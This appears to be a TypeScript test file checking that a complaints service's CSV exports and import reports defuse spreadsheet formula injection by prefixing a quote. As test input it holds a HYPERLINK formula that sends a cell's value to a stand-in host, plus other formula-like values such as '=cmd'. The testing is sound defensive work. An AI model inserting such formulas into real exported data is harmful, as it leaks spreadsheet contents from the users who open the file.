import { parse } from 'csv-parse/sync';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { csvCell, csvRecord, neutralizeFormula } from '@cl/csv';
import { refusalReportCsv } from '@cl/import';
import { API_KEYS, httpClient, TOKENS } from '../support/http-client';
import { importHere, summaryFigure } from '../support/import-process';
import { makeTempDir } from '../support/temp-dir';
import { startTestApp, waitForProjections } from '../support/test-app';
import { toCsv } from '../support/generic-history';

/** A category a spreadsheet would run as a formula (the DTO takes any text of 1-64 characters). */
const FORMULA = '=HYPERLINK("https://x/?"&B2,"open")';

describe('CSV cells that begin like a formula (docs/http-api.md, Operations)', () => {
  it('get a leading quote when they are text, whatever the first character', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(neutralizeFormula(`${start}1`)).toBe(`'${start}1`);
    }
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('-3')).toBe("'-3");
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell(FORMULA)).toBe(`"'=HYPERLINK(""https://x/?""&B2,""open"")"`);
    // Text that only holds such a character later, and numbers, stay as they are.
    expect(csvCell('a-b')).toBe('a-b');
    expect(csvCell('billing')).toBe('billing');
    expect(csvRecord([-3, 0.5, -0.25, 12n, true, null, undefined, ''])).toBe('-3,0.5,-0.25,12,true,,,');
  });

  it('in the import report too', () => {
    const report = refusalReportCsv([
      { line: 2, event: '=cmd', complaintId: '-X1', customerId: '+CU', status: 404, message: '@x' },
    ]);
    expect(report.split('\r\n')[1]).toBe("2,'=cmd,'-X1,'+CU,404,'@x");
  });
});

describe('CSV answers and reports neutralize formulas end to end', () => {
  let service: Awaited<ReturnType<typeof startTestApp>>;
  let http: ReturnType<typeof httpClient>;
  const dir = makeTempDir('csv-formulas');
  const PERIOD = 'from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00Z';

  beforeAll(async () => {
    service = await startTestApp({ API_KEYS });
    http = httpClient(service.url);
    const command = async (path: string, body: object) => {
      const answer = await http('POST', path, { body });
      if (answer.status >= 300) throw new Error(`${path}: ${answer.status} ${answer.text}`);
    };
    for (const [complaintId, category] of [
      ['F-1', FORMULA],
      ['F-2', 'billing'],
    ]) {
      await command('/complaints', {
        complaintId,
        customerId: `CU-${complaintId}`,
        channel: 'web',
        category,
        severity: 'low',
        description: 'd',
        occurredAt: '2026-01-05T10:00:00Z',
      });
      await command(`/complaints/${complaintId}/resolution`, {
        resolutionType: 'refund',
        summary: 's',
        occurredAt: '2026-01-06T10:00:00Z',
      });
      await command(`/complaints/${complaintId}/close`, { occurredAt: '2026-01-07T10:00:00Z' });
    }
    await waitForProjections(service.app);
  });
  afterAll(async () => {
    await service.stop();
    dir.remove();
  });

  const csvRows = async (path: string) => {
    const answer = await http('GET', path, { token: TOKENS.analyst, headers: { accept: 'text/csv' } });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toMatch(/^text\/csv/);
    return parse(answer.text, { columns: true }) as Record<string, string>[];
  };

  it.each([
    ['the funnel', `/analytics/funnel?${PERIOD}&groupBy=category`],
    ['the problems', `/analytics/problems?${PERIOD}&by=category`],
    ['the complaints return', `/analytics/complaints-return?${PERIOD}&by=category`],
  ])('%s CSV writes the category with a leading quote, numbers as numbers', async (_name, path) => {
    const rows = await csvRows(path);
    expect(rows.map((row) => row.key).sort()).toEqual([`'${FORMULA}`, 'billing']);
    const formulaRow = rows.find((row) => row.key.startsWith("'"))!;
    for (const [column, value] of Object.entries(formulaRow)) {
      if (column !== 'key' && value !== '') expect(value).toMatch(/^-?\d/);
    }
  });

  it('the import report writes a refused row whose keys look like formulas with leading quotes', async () => {
    const file = join(dir.path, 'rows.csv');
    writeFileSync(
      file,
      toCsv([
        // An unknown complaint (404), its id formula-like but a valid id.
        {
          event: 'resolved',
          occurredAt: '2026-01-08T10:00:00Z',
          complaintId: '-NOPE',
          resolutionType: 'refund',
          summary: 's',
        },
        // An unknown event, named like a formula.
        { event: '@SUM(1)', occurredAt: '2026-01-08T10:00:00Z', complaintId: 'F-9' },
      ]),
    );
    const report = join(dir.path, 'refused.csv');
    const run = await importHere(service.config.dataDir, [file, '--format', 'generic', '--report', report]);
    expect(summaryFigure(run.stdout, 'rows refused')).toBe(2);
    const rows = parse(readFileSync(report), { columns: true }) as Record<string, string>[];
    expect(rows.find((row) => row.line === '2')).toMatchObject({ complaintId: "'-NOPE", status: '404' });
    expect(rows.find((row) => row.line === '3')).toMatchObject({ event: "'@SUM(1)", complaintId: 'F-9' });
  });
});
